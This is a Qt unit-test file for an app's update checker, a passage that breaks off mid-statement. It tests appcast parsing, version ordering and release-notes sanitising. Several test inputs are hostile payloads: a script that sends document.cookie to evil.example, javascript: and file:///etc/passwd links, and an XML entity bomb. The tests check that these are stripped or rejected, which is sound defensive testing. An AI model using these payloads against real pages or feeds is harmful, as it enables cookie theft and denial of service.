// SPDX-License-Identifier: GPL-3.0-or-later
#include "appcast.h"
#include "appcastreply.h"
#include "flightstore.h"
#include "preferences.h"
#include "releasenotes.h"
#include "services.h"
#include "testserver.h"
#include "updater.h"
#include "updatermodel.h"
#include "updateuserdriver.h"
#include "updatewindow.h"
#include "views/aircraftlistview.h"
#include "views/updatebanner.h"

#include <QCheckBox>
#include <QElapsedTimer>
#include <QFile>
#include <QLabel>
#include <QListView>
#include <QNetworkAccessManager>
#include <QPushButton>
#include <QSettings>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTextBrowser>
#include <QtTest>

#include <memory>

using namespace Qt::StringLiterals;
using namespace std::chrono_literals;

namespace {

QByteArray fixture(const char *name)
{
    QFile file(QStringLiteral(SKYVELLE_FIXTURES "/appcast/") + QLatin1String(name));
    if (!file.open(QIODevice::ReadOnly))
        qFatal("missing fixture %s", name);
    return file.readAll();
}

TestServer::Reply xml(const QByteArray &body, int status = 200)
{
    TestServer::Reply r;
    r.status = status;
    r.body = body;
    r.contentType = "application/rss+xml";
    return r;
}

// A feed with one item of @p version (and its short version), notes inline.
QByteArray feedWith(const QByteArray &version, const QByteArray &shortVersion = {})
{
    QByteArray item =
        "<item><title>Skyvelle</title><sparkle:version>" + version + "</sparkle:version>";
    if (!shortVersion.isEmpty())
        item += "<sparkle:shortVersionString>" + shortVersion + "</sparkle:shortVersionString>";
    item += "<description><![CDATA[<p>Changes in " + version
        + ".</p>]]></description><enclosure url=\"https://skyvelle.example/releases/" + version
        + ".tar.gz\" length=\"1\" type=\"application/octet-stream\"/></item>";
    return "<?xml version=\"1.0\"?><rss version=\"2.0\" "
           "xmlns:sparkle=\"http://www.andymatuschak.org/xml-namespaces/sparkle\"><channel>"
        + item + "</channel></rss>";
}

// The user driver as a test sees it: every call recorded, the callbacks kept for the test to
// answer.
class RecordingDriver : public UpdateUserDriver {
public:
    QStringList calls;
    std::function<void()> cancel;
    std::function<void(UpdateChoice)> reply;
    std::function<void()> acknowledgement;
    AppcastItem shownItem;
    QString notes;
    QString error;

    void showUserInitiatedUpdateCheck(std::function<void()> c) override
    {
        calls << u"checking"_s;
        cancel = std::move(c);
    }
    void showUpdateFound(
        const AppcastItem &item, const QString &, std::function<void(UpdateChoice)> r) override
    {
        calls << u"found "_s + item.displayVersionString();
        shownItem = item;
        reply = std::move(r);
    }
    void showUpdateReleaseNotes(const QString &text) override
    {
        calls << u"notes"_s;
        notes = text;
    }
    void showUpdateReleaseNotesFailedToDownload(const QString &e) override
    {
        calls << u"notes failed"_s;
        error = e;
    }
    void showUpdateNotFound(const QString &current, std::function<void()> a) override
    {
        calls << u"up to date "_s + current;
        acknowledgement = std::move(a);
    }
    void showUpdaterError(const QString &e, std::function<void()> a) override
    {
        calls << u"error"_s;
        error = e;
        acknowledgement = std::move(a);
    }
    void showUpdateInFocus() override { calls << u"focus"_s; }
    void dismissUpdateInstallation() override { calls << u"dismiss"_s; }
};

} // namespace

class TestUpdates : public QObject {
    Q_OBJECT

private:
    std::unique_ptr<QTemporaryDir> m_dir;
    std::unique_ptr<Preferences> m_preferences;
    std::unique_ptr<TestServer> m_server;
    QNetworkAccessManager m_network;
    QList<QUrl> m_opened;

    QString settingsPath() const { return m_dir->filePath(u"Skyvelle.conf"_s); }

    Services services(const QUrl &appcast) const
    {
        return Services::withOverrides({ { u"appcast"_s, appcast.toString() } });
    }

    // An updater on the local feed at "/appcast.xml", running version 1.0, whose "Download"
    // opens nothing but is recorded.
    Updater *makeUpdater(int timeoutMs = 2000, std::chrono::milliseconds schedule = 24h)
    {
        Updater::Options options;
        options.currentVersion = u"1.0"_s;
        options.timeoutMs = timeoutMs;
        options.scheduledCheckInterval = schedule;
        options.openUrl = [this](const QUrl &url) {
            m_opened << url;
            return true;
        };
        return new Updater(
            m_preferences.get(), &m_network, services(m_server->url(u"/appcast.xml"_s)), options);
    }

    // A model whose probe waits @p afterStart and re-probes 50 ms after a session.
    std::unique_ptr<UpdaterModel> makeModel(Updater *updater,
        std::chrono::milliseconds afterStart = 24h, std::chrono::milliseconds afterSession = 50ms)
    {
        return std::make_unique<UpdaterModel>(
            updater, UpdaterModel::Delays { afterStart, afterSession });
    }

    // Runs the quiet probe and waits for its answer.
    static QString probe(UpdaterModel &model)
    {
        QSignalSpy finished(model.updater(), &Updater::backgroundCheckFinished);
        model.probeQuietly();
        if (!finished.wait(5000))
            return u"no answer"_s;
        return finished.first().first().toString();
    }

private Q_SLOTS:
    void init()
    {
        m_dir = std::make_unique<QTemporaryDir>();
        m_preferences = std::make_unique<Preferences>(settingsPath());
        m_server = std::make_unique<TestServer>();
        m_opened.clear();
    }

    void cleanup()
    {
        m_server.reset();
        m_preferences.reset();
        m_dir.reset();
    }

    // Versions

    void compareVersions_data()
    {
        QTest::addColumn<QString>("a");
        QTest::addColumn<QString>("b");
        QTest::addColumn<int>("order");
        QTest::newRow("tenth after ninth") << u"1.10"_s << u"1.9"_s << 1;
        QTest::newRow("missing component is zero") << u"1.2"_s << u"1.2.0"_s << 0;
        QTest::newRow("pre-release before release") << u"1.3-beta2"_s << u"1.3"_s << -1;
        QTest::newRow("pre-release after earlier release") << u"1.3-beta2"_s << u"1.2.9"_s << 1;
        QTest::newRow("beta numbers") << u"1.3-beta2"_s << u"1.3-beta10"_s << -1;
        QTest::newRow("alpha before beta") << u"2.0-alpha"_s << u"2.0-beta"_s << -1;
        QTest::newRow("beta before rc") << u"2.0-beta3"_s << u"2.0-rc1"_s << -1;
        QTest::newRow("suffix without dash") << u"1.3b2"_s << u"1.3"_s << -1;
        QTest::newRow("equal") << u"2.0.1"_s << u"2.0.1"_s << 0;
        QTest::newRow("leading v") << u"v1.2"_s << u"1.2"_s << 0;
        QTest::newRow("leading zeros") << u"1.02"_s << u"1.2"_s << 0;
        QTest::newRow("build metadata") << u"1.2+45"_s << u"1.2"_s << 0;
        QTest::newRow("patch after minor") << u"1.2.1"_s << u"1.2"_s << 1;
        QTest::newRow("build numbers") << u"4521"_s << u"4519"_s << 1;
        QTest::newRow("huge numbers") << u"1.99999999999999999999999"_s << u"1.1"_s << 1;
        QTest::newRow("spaces") << u" 1.4 "_s << u"1.4"_s << 0;
    }
    void compareVersions()
    {
        QFETCH(QString, a);
        QFETCH(QString, b);
        QFETCH(int, order);
        QCOMPARE(Appcast::compareVersions(a, b), order);
        QCOMPARE(Appcast::compareVersions(b, a), -order);
    }

    void isVersion()
    {
        QVERIFY(Appcast::isVersion(u"1"_s));
        QVERIFY(Appcast::isVersion(u"v2.0-beta"_s));
        QVERIFY(!Appcast::isVersion(u""_s));
        QVERIFY(!Appcast::isVersion(u"latest"_s));
        QVERIFY(!Appcast::isVersion(u"<script>"_s));
    }

    // The feed's address

    void feedFollowsHomepage()
    {
        QCOMPARE(Services::defaults().appcast, QUrl(u"https://skyvelle.app/appcast.xml"_s));
        QCOMPARE(Services::withOverrides({ { u"homepage"_s, u"https://example.org/skyvelle/"_s } })
                     .appcast,
            QUrl(u"https://example.org/skyvelle/appcast.xml"_s));
        QCOMPARE(
            Services::withOverrides({ { u"homepage"_s, u"https://example.org/x"_s },
                                        { u"appcast"_s, u"http://127.0.0.1:8000/feed.xml"_s } })
                .appcast,
            QUrl(u"http://127.0.0.1:8000/feed.xml"_s));
        // From the settings file's [services] group, like every other address.
        {
            QSettings raw(settingsPath(), QSettings::IniFormat);
            raw.setValue(u"services/appcast"_s, u"http://127.0.0.1:8000/appcast.xml"_s);
        }
        QCOMPARE(Services::withOverrides(Preferences(settingsPath()).serviceOverrides()).appcast,
            QUrl(u"http://127.0.0.1:8000/appcast.xml"_s));
    }

    // Decoding

    void decodeAttributeForm()
    {
        QString error;
        const auto items = Appcast::decode(
            fixture("attributes.xml"), QUrl(u"https://skyvelle.example/appcast.xml"_s), &error);
        QVERIFY2(items, qPrintable(error));
        QCOMPARE(items->size(), 3);
        const AppcastItem &first = items->at(0);
        QCOMPARE(first.title, u"Version 1.9"_s);
        QCOMPARE(first.version, u"1.9"_s);
        QCOMPARE(first.shortVersionString, u"1.9"_s);
        QCOMPARE(
            first.downloadUrl, QUrl(u"https://skyvelle.example/releases/skyvelle-1.9.tar.gz"_s));
        QCOMPARE(first.publishedAt, QDateTime(QDate(2026, 11, 2), QTime(10, 0), Qt::UTC));
        QCOMPARE(first.description, u"<ul><li>Logbook charts by hour.</li></ul>"_s);
        QVERIFY(!first.descriptionIsPlainText);
        // The third has no short version: its version stands in.
        QCOMPARE(items->at(2).displayVersionString(), u"1.2"_s);

        const auto newest = Appcast::newest(*items);
        QVERIFY(newest);
        QCOMPARE(newest->version, u"1.10"_s);
        QCOMPARE(newest->displayVersionString(), u"1.10 (December)"_s);
        QVERIFY(newest->description.contains(u"What's new"_s));
    }

    void decodeElementForm()
    {
        QString error;
        const auto items = Appcast::decode(
            fixture("elements.xml"), QUrl(u"https://skyvelle.example/feed/appcast.xml"_s), &error);
        QVERIFY2(items, qPrintable(error));
        // The beta channel's item is not offered.
        QCOMPARE(items->size(), 2);
        const auto newest = Appcast::newest(*items);
        QCOMPARE(newest->version, u"2.0"_s);
        QCOMPARE(newest->displayVersionString(), u"2.0"_s);
        QCOMPARE(newest->link, QUrl(u"https://skyvelle.example/releases/2.0"_s));
        // Relative to the feed; the first language's link.
        QCOMPARE(newest->releaseNotesUrl, QUrl(u"https://skyvelle.example/feed/notes/2.0.html"_s));
        QVERIFY(newest->description.isEmpty());
        const AppcastItem &candidate = items->at(1);
        QCOMPARE(candidate.version, u"2.0-rc1"_s);
        QVERIFY(candidate.descriptionIsPlainText);
        QCOMPARE(candidate.description, u"Release candidate.\nPlease report anything odd."_s);
    }

    void decodeItemForms()
    {
        // The child elements win over the enclosure's attributes; an item without an enclosure
        // offers its link.
        const QByteArray body = "<rss version='2.0' xmlns:sparkle='"
                                "http://www.andymatuschak.org/xml-namespaces/sparkle'><channel>"
                                "<item><sparkle:version>3.1</sparkle:version>"
                                "<enclosure url='https://x.example/a.tgz' sparkle:version='3.0' "
                                "sparkle:shortVersionString='Three'/></item>"
                                "<item><link>https://x.example/3.2</link>"
                                "<sparkle:version>3.2</sparkle:version></item>"
                                "</channel></rss>";
        const auto items = Appcast::decode(body);
        QVERIFY(items);
        QCOMPARE(items->size(), 2);
        QCOMPARE(items->at(0).version, u"3.1"_s);
        QCOMPARE(items->at(0).displayVersionString(), u"Three"_s);
        QCOMPARE(items->at(1).downloadPage(), QUrl(u"https://x.example/3.2"_s));
    }

    void decodeRejects_data()
    {
        QTest::addColumn<QByteArray>("body");
        QTest::addColumn<QString>("error");
        const QString notXml = u"The update feed is not well-formed XML."_s;
        const QString notAppcast = u"The update feed is not an appcast."_s;
        const QString noVersion = u"The update feed lists no version."_s;
        QTest::newRow("empty") << QByteArray() << notXml;
        QTest::newRow("not XML") << "Service temporarily unavailable"_ba << notXml;
        QTest::newRow("JSON") << R"({"version":"9.9"})"_ba << notXml;
        QTest::newRow("HTML") << "<!DOCTYPE html><html><body><h1>Welcome</h1></body></html>"_ba
                              << notAppcast;
        QTest::newRow("XHTML") << "<html><body><p>Moved</p></body></html>"_ba << notAppcast;
        QTest::newRow("entity bomb")
            << "<?xml version='1.0'?><!DOCTYPE rss [<!ENTITY a 'aaaaaaaaaa'>"
               "<!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'>"
               "]><rss version='2.0'><channel><item><title>&c;</title></item></channel></rss>"_ba
            << notAppcast;
        QTest::newRow("broken after items")
            << feedWith("2.0").replace("</channel></rss>", "</channel>") << notXml;
        QTest::newRow("no items")
            << "<rss version='2.0'><channel><title>x</title></channel></rss>"_ba << noVersion;
        QTest::newRow("items without versions")
            << "<rss version='2.0'><channel><item><title>New!</title>"
               "<enclosure url='https://x.example/a.tgz'/></item></channel></rss>"_ba
            << noVersion;
        QTest::newRow("version that is no version") << feedWith("latest") << noVersion;
        QTest::newRow("undeclared sparkle prefix")
            << "<rss version='2.0'><channel><item><sparkle:version>2.0</sparkle:version>"
               "</item></channel></rss>"_ba
            << notXml;
        QTest::newRow("nothing to download from a web address")
            << feedWith("2.0").replace("https://skyvelle.example/releases/", "file:///etc/")
            << noVersion;
        QTest::newRow("only a beta channel")
            << feedWith("2.0").replace("<title>", "<sparkle:channel>beta</sparkle:channel><title>")
            << noVersion;
    }
    void decodeRejects()
    {
        QFETCH(QByteArray, body);
        QFETCH(QString, error);
        QString reason;
        QVERIFY(!Appcast::decode(body, {}, &reason));
        QCOMPARE(reason, error);
    }

    // Release notes

    void releaseNotesAreSafe_data()
    {
        QTest::addColumn<QString>("notes");
        QTest::addColumn<QString>("expected");
        QTest::newRow("formatting kept")
            << u"<h2 class='x'>New</h2><ul><li><b>Faster</b> map</li></ul>"_s
            << u"<h2>New</h2><ul><li><b>Faster</b> map</li></ul>"_s;
        QTest::newRow("script dropped with its code")
            << u"<p>Hi</p><script>fetch('https://evil.example/?'+document.cookie)</script><p>Bye</p>"_s
            << u"<p>Hi</p><p>Bye</p>"_s;
        QTest::newRow("upper-case script") << u"a<SCRIPT type=x>alert(1)</SCRIPT>b"_s << u"ab"_s;
        QTest::newRow("style dropped")
            << u"<style>body{background:url(http://e.example/x)}</style>ok"_s << u"ok"_s;
        QTest::newRow("remote image dropped")
            << u"<p>Look <img src=\"https://tracker.example/pixel.gif\" width=1></p>"_s
            << u"<p>Look </p>"_s;
        QTest::newRow("style attribute dropped")
            << u"<p style=\"background-image:url(https://e.example/i.png)\">x</p>"_s
            << u"<p>x</p>"_s;
        QTest::newRow("event handler dropped")
            << u"<b onmouseover=\"alert(1)\">x</b>"_s << u"<b>x</b>"_s;
        QTest::newRow("web link kept")
            << u"<a href=\"https://skyvelle.example/r?a=1&amp;b=2\" target=_blank>notes</a>"_s
            << u"<a href=\"https://skyvelle.example/r?a=1&amp;b=2\">notes</a>"_s;
        QTest::newRow("file link dropped")
            << u"<a href=\"file:///etc/passwd\">passwords</a>"_s << u"passwords</a>"_s;
        QTest::newRow("javascript link dropped")
            << u"<a href='javascript:alert(1)'>click</a>"_s << u"click</a>"_s;
        QTest::newRow("relative link dropped") << u"<a href=\"../secret\">x</a>"_s << u"x</a>"_s;
        QTest::newRow("iframe dropped")
            << u"<iframe src=\"https://e.example\">fallback</iframe>after"_s << u"after"_s;
        QTest::newRow("comments and declarations dropped")
            << u"<!DOCTYPE html><!-- <script>x</script> --><?php x ?>text"_s << u"text"_s;
        QTest::newRow("link and meta dropped")
            << u"<link rel=stylesheet href=https://e.example/s.css><meta http-equiv=refresh>t"_s
            << u"t"_s;
        QTest::newRow("stray brackets escaped")
            << u"<p>a < b > c & d</p>"_s << u"<p>a &lt; b &gt; c &amp; d</p>"_s;
        QTest::newRow("unterminated tag")
            << u"<p>ok</p><img src='https://e.example/x"_s << u"<p>ok</p>"_s;
        QTest::newRow("unterminated script") << u"ok<script>alert(1)"_s << u"ok"_s;
    }
    void releaseNotesAreSafe()
    {
        QFETCH(QString, notes);
        QFETCH(QString, expected);
        QCOMPARE(ReleaseNotes::safeHtml(notes), expected);
    }

    void releaseNotesPlainText()
    {
        // Plain text is shown as written, markup and all.
        const QString html =
            ReleaseNotes::safeHtml(u"Fixed <script> in notes\nSecond line"_s, true);
        QVERIFY(html.contains(u"&lt;script&gt;"_s));
        QVERIFY(!html.contains(u"<script"_s));
        QVERIFY(html.contains(u"<br"_s));
        QVERIFY(ReleaseNotes::isPlainText(u"No markup"_s, false));
        QVERIFY(!ReleaseNotes::isPlainText(u"<p>markup</p>"_s, false));
    }

    void notesViewLoadsNothing()
    {
        // Even what the filter let through cannot make the view fetch: it loads no resource.
        m_server->setReply(u"/appcast.xml"_s, xml(feedWith("2.0")));
        auto model = makeModel(makeUpdater());
        UpdateWindow window(model->updater());
        AppcastItem item;
        item.version = u"2.0"_s;
        item.description = u"<p>x</p><img src=\""_s + m_server->url(u"/pixel.png"_s).toString()
            + u"\"><img src=\"file:///etc/hostname\">"_s;
        window.showUpdateFound(item, u"1.0"_s, [](UpdateChoice) {});
        auto *notes = window.findChild<QTextBrowser *>(u"releaseNotes"_s);
        QVERIFY(notes);
        QVERIFY(!notes->toHtml().contains(u"img"_s));
        QCOMPARE(notes->loadResource(QTextDocument::ImageResource, QUrl(u"file:///etc/hostname"_s)),
            QVariant());
        QTest::qWait(100);
        QCOMPARE(m_server->requestCount(u"/pixel.png"_s), 0);
        window.dismissUpdateInstallation();
    }

    // The quiet probe and the model

    void probeAfterStart()
    {
        m_server->setReply(u"/appcast.xml"_s, xml(fixture("attributes.xml")));
        auto model = makeModel(makeUpdater(), 100ms);
        QSignalSpy available(model.get(), &UpdaterModel::updateAvailableChanged);
        QVERIFY(!model->updateAvailable());
        QTRY_VERIFY(model->updateAvailable());
        // The newest item of the feed, by its display version.
        QCOMPARE(model->availableVersion(), u"1.10 (December)"_s);
        QCOMPARE(available.size(), 1);
        QCOMPARE(m_server->requestCount(u"/appcast.xml"_s), 1);
        QCOMPARE(m_server->requests().first().headers.value("user-agent"),
            Services::defaults().userAgent());
    }

    void probeFindsNothingNewer_data()
    {
        QTest::addColumn<QByteArray>("version");
        QTest::newRow("same") << "1.0"_ba;
        QTest::newRow("same, longer") << "1.0.0"_ba;
        QTest::newRow("older") << "0.9"_ba;
        QTest::newRow("pre-release of the running one") << "1.0-rc2"_ba;
    }
    void probeFindsNothingNewer()
    {
        QFETCH(QByteArray, version);
        m_server->setQueuedReplies(
            u"/appcast.xml"_s, { xml(feedWith("1.5")), xml(feedWith(version)) });
        auto model = makeModel(makeUpdater());
        QCOMPARE(probe(*model), QString());
        QVERIFY(model->updateAvailable());
        // "Not found" clears what an earlier check found.
        QCOMPARE(probe(*model), QString());
        QVERIFY(!model->updateAvailable());
        QVERIFY(model->availableVersion().isEmpty());
    }

    void probeSkippedWhenAutomaticChecksOff()
    {
        m_server->setReply(u"/appcast.xml"_s, xml(feedWith("2.0")));
        m_preferences->setAutomaticallyChecksForUpdates(false);
        auto model = makeModel(makeUpdater(), 20ms);
        QVERIFY(!model->automaticallyChecksForUpdates());
        QTest::qWait(300);
        model->probeQuietly();
        QTest::qWait(200);
        QCOMPARE(m_server->requestCount(), 0);
        QVERIFY(!model->updateAvailable());

        // Checking by hand still works.
        RecordingDriver driver;
        model->updater()->setUserDriver(&driver);
        model->checkForUpdates();
        QTRY_COMPARE(driver.calls, (QStringList { u"checking"_s, u"found 2.0"_s }));
        model->updater()->setUserDriver(nullptr);
    }

    void automaticChecksLiveInTheirOwnGroup()
    {
        QVERIFY(m_preferences->automaticallyChecksForUpdates());
        auto model = makeModel(makeUpdater());
        QSignalSpy changed(model.get(), &UpdaterModel::automaticallyChecksForUpdatesChanged);
        model->setAutomaticallyChecksForUpdates(false);
        QCOMPARE(changed.size(), 1);
        m_preferences->sync();
        QSettings raw(settingsPath(), QSettings::IniFormat);
        QCOMPARE(raw.value(u"updates/automaticallyChecksForUpdates"_s).toString(), u"false"_s);
        QVERIFY(!raw.contains(u"automaticallyChecksForUpdates"_s));
    }

    void probeSkippedWhileSessionRuns()
    {
        TestServer::Reply slow = xml(feedWith("2.0"));
        slow.delayMs = 300;
        m_server->setReply(u"/appcast.xml"_s, slow);
        auto model = makeModel(makeUpdater());
        RecordingDriver driver;
        model->updater()->setUserDriver(&driver);
        QSignalSpy session(model.get(), &UpdaterModel::sessionInProgressChanged);
        model->checkForUpdates();
        QVERIFY(model->sessionInProgress());
        QCOMPARE(session.size(), 1);
        QSignalSpy background(model->updater(), &Updater::backgroundCheckFinished);
        model->probeQuietly();
        QTRY_COMPARE(driver.calls.size(), 2);
        QCOMPARE(m_server->requestCount(u"/appcast.xml"_s), 1);
        // Still open while the window shows the update: the probe still does nothing.
        model->probeQuietly();
        QTest::qWait(100);
        QCOMPARE(m_server->requestCount(u"/appcast.xml"_s), 1);
        QCOMPARE(background.size(), 0);
        // Asking again only brings the window forward.
        model->checkForUpdates();
        QCOMPARE(driver.calls.last(), u"focus"_s);
        driver.reply(UpdateChoice::remindLater);
        QVERIFY(!model->sessionInProgress());
        model->updater()->setUserDriver(nullptr);
    }

    void scheduledCheckShowsTheBannerNotTheWindow()
    {
        m_server->setReply(u"/appcast.xml"_s, xml(feedWith("2.0")));
        auto model = makeModel(makeUpdater(2000, 100ms));
        RecordingDriver driver;
        model->updater()->setUserDriver(&driver);
        QTRY_VERIFY(model->updateAvailable());
        QCOMPARE(model->availableVersion(), u"2.0"_s);
        QVERIFY(driver.calls.isEmpty());
        QVERIFY(!model->sessionInProgress());
        // Off: the schedule reads nothing more.
        model->setAutomaticallyChecksForUpdates(false);
        const int before = m_server->requestCount();
        QTest::qWait(350);
        QCOMPARE(m_server->requestCount(), before);
        model->updater()->setUserDriver(nullptr);
    }

    void bannerClearedBySessionFinished()
    {
        m_server->setReply(u"/appcast.xml"_s, xml(feedWith("2.0")));
        auto model = makeModel(makeUpdater(), 24h, 300ms);
        RecordingDriver driver;
        model->updater()->setUserDriver(&driver);
        QCOMPARE(probe(*model), QString());
        QVERIFY(model->updateAvailable());

        // An interactive check that fails leaves the banner until its session ends.
        m_server->setReply(u"/appcast.xml"_s, xml("<html>maintenance</html>"));
        model->checkForUpdates();
        QTRY_COMPARE(driver.calls, (QStringList { u"checking"_s, u"error"_s }));
        QCOMPARE(driver.error, u"Couldn't check for updates: The update feed is not an appcast."_s);
        QVERIFY(model->updateAvailable());
        m_server->setReply(u"/appcast.xml"_s, xml(feedWith("2.0")));
        const int before = m_server->requestCount();
        driver.acknowledgement();
        QVERIFY(!model->updateAvailable());
        // The re-probe after the session: 300 ms, not sooner.
        QTest::qWait(150);
        QCOMPARE(m_server->requestCount(), before);
        QTRY_VERIFY(model->updateAvailable());
        model->updater()->setUserDriver(nullptr);
    }

    void releaseNotesLinkIsFetched()
    {
        m_server->setReply(u"/appcast.xml"_s, xml(fixture("elements.xml")));
        TestServer::Reply notes;
        notes.body = "<h1>Skyvelle 2.0</h1><script>alert(1)</script>";
        notes.contentType = "text/html";
        m_server->setReply(u"/notes/2.0.html"_s, notes);
        auto model = makeModel(makeUpdater());
        RecordingDriver driver;
        model->updater()->setUserDriver(&driver);
        model->checkForUpdates();
        QTRY_COMPARE(driver.calls, (QStringList { u"checking"_s, u"found 2.0"_s, u"notes"_s }));
        QCOMPARE(driver.notes, QString::fromUtf8(notes.body));
        driver.reply(UpdateChoice::remindLater);

        // Notes that cannot be had: the update is shown all the same.
        driver.calls.clear();
        m_server->setReply(u"/notes/2.0.html"_s, xml({}, 404));
        model->checkForUpdates();
        QTRY_COMPARE(
            driver.calls, (QStringList { u"checking"_s, u"found 2.0"_s, u"notes failed"_s }));
        QCOMPARE(driver.error, u"The service answered HTTP 404 (Not Found)."_s);
        driver.reply(UpdateChoice::remindLater);
        model->updater()->setUserDriver(nullptr);
    }

    void skipIsRememberedAcrossRestarts()
    {
        m_server->setReply(u"/appcast.xml"_s, xml(feedWith("2.0")));
        {
            auto model = makeModel(makeUpdater());
            RecordingDriver driver;
            model->updater()->setUserDriver(&driver);
            QCOMPARE(probe(*model), QString());
            QVERIFY(model->updateAvailable());
            model->checkForUpdates();
            QTRY_VERIFY(driver.reply);
            driver.reply(UpdateChoice::skip);
            // The re-probe after the session finds only the skipped version.
            QTRY_COMPARE(m_server->requestCount(u"/appcast.xml"_s), 3);
            QTest::qWait(100);
            QVERIFY(!model->updateAvailable());
            model->updater()->setUserDriver(nullptr);
        }
        m_preferences->sync();
        QCOMPARE(QSettings(settingsPath(), QSettings::IniFormat)
                     .value(u"updates/skippedVersion"_s)
                     .toString(),
            u"2.0"_s);

        // A new run over the same settings file.
        m_preferences = std::make_unique<Preferences>(settingsPath());
        auto model = makeModel(makeUpdater());
        QCOMPARE(probe(*model), QString());
        QVERIFY(!model->updateAvailable());
        // Checking by hand shows it all the same.
        RecordingDriver driver;
        model->updater()->setUserDriver(&driver);
        model->checkForUpdates();
        QTRY_COMPARE(driver.calls, (QStringList { u"checking"_s, u"found 2.0"_s }));
        driver.reply(UpdateChoice::remindLater);
        // A later version than the skipped one shows again.
        m_server->setReply(u"/appcast.xml"_s, xml(feedWith("2.0.1")));
        QTRY_VERIFY(model->updateAvailable());
        QCOMPARE(model->availableVersion(), u"2.0.1"_s);
        model->updater()->setUserDriver(nullptr);
    }

    void hostileBodiesKeepTheBanner_data()
    {
        QTest::addColumn<QString>("kind");
        QTest::addColumn<QString>("error");
        QTest::newRow("not XML") << u"text"_s << u"The update feed is not well-formed XML."_s;
        QTest::newRow("HTML") << u"html"_s << u"The update feed is not an appcast."_s;
        QTest::newRow("10 MB") << u"huge"_s << u"The service's answer is too large."_s;
        QTest::newRow("no items") << u"empty"_s << u"The update feed lists no version."_s;
        QTest::newRow("items without versions")
            << u"versionless"_s << u"The update feed lists no version."_s;
        QTest::newRow("404") << u"404"_s << u"The service answered HTTP 404 (Not Found)."_s;
        QTest::newRow("refused") << u"refused"_s << u"The service refused the connection."_s;
        QTest::newRow("never answers") << u"hang"_s << u"The service did not answer in time."_s;
    }
    void hostileBodiesKeepTheBanner()
    {
        QFETCH(QString, kind);
        QFETCH(QString, error);
        m_server->setReply(u"/appcast.xml"_s, xml(feedWith("2.0")));
        auto model = makeModel(makeUpdater(400));
        QCOMPARE(probe(*model), QString());
        QVERIFY(model->updateAvailable());

        TestServer::Reply r = xml({});
        if (kind == "text"_L1)
            r.body = "Hello there";
        else if (kind == "html"_L1)
            r.body = "<!DOCTYPE html><html><head><title>Error</title></head></html>";
        else if (kind == "huge"_L1)
            r.body = "<rss version='2.0'><channel>" + QByteArray(10 * 1024 * 1024, ' ');
        else if (kind == "empty"_L1)
            r.body = "<rss version='2.0'><channel></channel></rss>";
        else if (kind == "versionless"_L1)
            r.body = "<rss version='2.0'><channel><item><title>2.0</title><enclosure "
                     "url='https://x.example/a.tgz'/></item></channel></rss>";
        else if (kind == "404"_L1)
            r.status = 404;
        else if (kind == "hang"_L1)
            r.hang = true;
        m_server->setReply(u"/appcast.xml"_s, r);
        if (kind == "refused"_L1)
            m_server.reset(); // nothing listens on its port any more

        // The probe keeps the banner as it was …
        QSignalSpy available(model.get(), &UpdaterModel::updateAvailableChanged);
        QElapsedTimer clock;
        clock.start();
        QCOMPARE(probe(*model), error);
        QVERIFY(clock.elapsed() < 3000);
        QCOMPARE(available.size(), 0);
        QVERIFY(model->updateAvailable());

        // … and the interactive check says what went wrong, in one line.
        RecordingDriver driver;
        model->updater()->setUserDriver(&driver);
        model->checkForUpdates();
        QTRY_COMPARE(driver.calls, (QStringList { u"checking"_s, u"error"_s }));
        QCOMPARE(driver.error, u"Couldn't check for updates: "_s + error);
        driver.acknowledgement();
        model->updater()->setUserDriver(nullptr);
    }

    void feedAddressMustBeWeb()
    {
        // A hand-edited setting cannot make the updater read a local file.
        auto *updater = new Updater(m_preferences.get(), &m_network,
            Services::withOverrides({ { u"homepage"_s, u"file:///etc"_s } }), Updater::Options());
        QCOMPARE(updater->feedUrl(), QUrl(u"file:///etc/appcast.xml"_s));
        auto model = makeModel(updater);
        QCOMPARE(probe(*model), u"The update feed's address is not a web address."_s);
        QVERIFY(!model->updateAvailable());
    }

    // The window and the banner

    void windowStates()
    {
        TestServer::Reply slow = xml(feedWith("2.0", "2.0 (Spring)"));
        slow.delayMs = 400;
        m_server->setReply(u"/appcast.xml"_s, slow);
        auto model = makeModel(makeUpdater());
        UpdateWindow window(model->updater());
        const auto text = [&window](const char *name) {
            auto *label = window.findChild<QLabel *>(QLatin1String(name));
            return label && label->isVisible() ? label->text() : QString();
        };
        const auto button = [&window](const char *name) {
            return window.findChild<QPushButton *>(QLatin1String(name));
        };
        const auto visibleButtons = [&window] {
            QStringList names;
            for (const QPushButton *b : window.findChildren<QPushButton *>())
                if (b->isVisible())
                    names << b->accessibleName();
            names.sort();
            return names;
        };

        // Checking…
        model->checkForUpdates();
        QVERIFY(QTest::qWaitForWindowExposed(&window));
        QCOMPARE(window.state(), UpdateWindow::State::checking);
        QCOMPARE(window.windowTitle(), u"Software Update"_s);
        QCOMPARE(text("title"), u"Checking for updates…"_s);
        QCOMPARE(visibleButtons(), QStringList { u"Cancel"_s });
        QVERIFY(window.findChild<QWidget *>(u"spinner"_s)->isVisible());

        // … a new version, with its notes made safe.
        QTRY_COMPARE(window.state(), UpdateWindow::State::updateFound);
        QCOMPARE(text("title"), u"A new version of Skyvelle is available"_s);
        QVERIFY(
            text("message").startsWith(u"Skyvelle 2.0 (Spring) is available — you have 1.0."_s));
        QCOMPARE(visibleButtons(),
            (QStringList { u"Download"_s, u"Remind Me Later"_s, u"Skip This Version"_s }));
        QVERIFY(button("download")->isDefault());
        auto *notes = window.findChild<QTextBrowser *>(u"releaseNotes"_s);
        QVERIFY(notes->isVisible());
        QCOMPARE(notes->toPlainText(), u"Changes in 2.0."_s);
        QVERIFY(window.findChild<QCheckBox *>(u"automaticChecks"_s)->isChecked());
        QVERIFY(!model->updateAvailable());

        // Escape means Remind Me Later.
        QTest::keyClick(&window, Qt::Key_Escape);
        QCOMPARE(window.state(), UpdateWindow::State::closed);
        QVERIFY(!window.isVisible());
        QVERIFY(!model->sessionInProgress());

        // You're up to date, with the running version.
        m_server->setReply(u"/appcast.xml"_s, xml(feedWith("1.0")));
        model->checkForUpdates();
        QTRY_COMPARE(window.state(), UpdateWindow::State::upToDate);
        QVERIFY(window.isVisible());
        QCOMPARE(text("title"), u"You're up to date"_s);
        QCOMPARE(text("message"), u"Skyvelle 1.0 is the newest version available."_s);
        QCOMPARE(visibleButtons(), QStringList { u"OK"_s });
        QVERIFY(!window.findChild<QTextBrowser *>(u"releaseNotes"_s)->isVisible());
        // The setting, from the window.
        QTest::mouseClick(
